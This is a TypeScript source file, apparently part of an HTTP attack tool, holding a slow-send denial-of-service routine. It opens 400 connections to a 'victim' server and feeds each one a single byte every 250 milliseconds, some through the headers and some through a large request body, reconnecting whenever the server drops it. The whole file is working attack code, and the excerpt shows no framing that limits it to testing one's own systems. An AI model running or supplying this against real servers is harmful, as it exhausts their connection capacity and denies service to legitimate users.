import { setTimeout as sleep } from 'node:timers/promises';
import { type AttackTally, addressOf, type Victim } from './attack.ts';
import { Connection } from './connection.ts';
import { unsigned } from './requests.ts';

const senders = 400;

/** Between two bytes. */
const pauseMs = 250;

/** Hundreds of connections that send a byte at a time: every other one of its headers, the rest of a body. */
export async function slowSenders(victim: Victim, tally: AttackTally, stopped: AbortSignal): Promise<void> {
  const whole = unsigned(victim, 100_000);
  const head = whole.indexOf('\r\n\r\n') + 4;
  const trickle = async (first: number) => {
    while (!stopped.aborted) {
      const connection = new Connection(addressOf(victim));
      let isOpen = true;
      tally.send();
      connection.write(whole.subarray(0, first));
      const ended = connection.ended().then((status) => {
        tally.answer(status);
        isOpen = false;
      });
      for (let at = first; isOpen && !stopped.aborted; at += 1) {
        await Promise.race([ended, sleep(pauseMs)]);
        if (isOpen) connection.write(whole.subarray(at, at + 1));
      }
      connection.close();
    }
  };
  await Promise.all(Array.from({ length: senders }, (_, n) => trickle(n % 2 === 0 ? 1 : head)));
}
